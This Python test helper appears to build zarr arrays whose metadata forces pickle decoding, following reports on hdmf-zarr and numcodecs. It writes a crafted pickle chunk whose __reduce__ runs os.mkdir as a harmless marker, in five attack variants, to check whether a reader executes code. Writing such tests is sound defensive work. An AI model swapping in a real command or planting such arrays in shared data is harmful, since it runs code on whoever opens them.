"""Arrays of zarr that run code when they are decoded, as in the reports on hdmf-zarr (#385) and numcodecs (#706)."""

from __future__ import annotations

import json
import os
import pickle
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import zarr

VALUES = np.arange(6.0).reshape(2, 3)


class Bomb:
    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.mark),)


OBJECTS = {"dtype": "|O", "fill_value": None, "compressor": None}
ATTACKS: dict[str, dict[str, Any]] = {
    "objects": {**OBJECTS, "filters": [{"id": "pickle"}]},
    "objects behind a codec for texts": {**OBJECTS, "filters": [{"id": "vlen-utf8"}, {"id": "pickle"}]},
    "a filter on numbers": {"filters": [{"id": "zlib", "level": 1}, {"id": "pickle"}], "compressor": None},
    "a compressor": {"compressor": {"id": "pickle"}},
    "a structure": {"dtype": [["f0", "|O"]], "fill_value": None},
}


def arm(array: Path, attack: dict[str, Any], mark: Path) -> None:
    """Turn an array into one of zarr format 2 that unpickles when it is decoded."""
    shutil.rmtree(array)
    group = zarr.open_group(str(array.parent / "other"), mode="w", zarr_format=2)
    group.create_array(array.name, data=VALUES)
    shutil.move(array.parent / "other" / array.name, array)
    shutil.rmtree(array.parent / "other")
    described = json.loads((array / ".zarray").read_text())
    (array / ".zarray").write_text(json.dumps({**described, **attack}))
    (array / "0.0").write_bytes(pickle.dumps(Bomb(mark)))
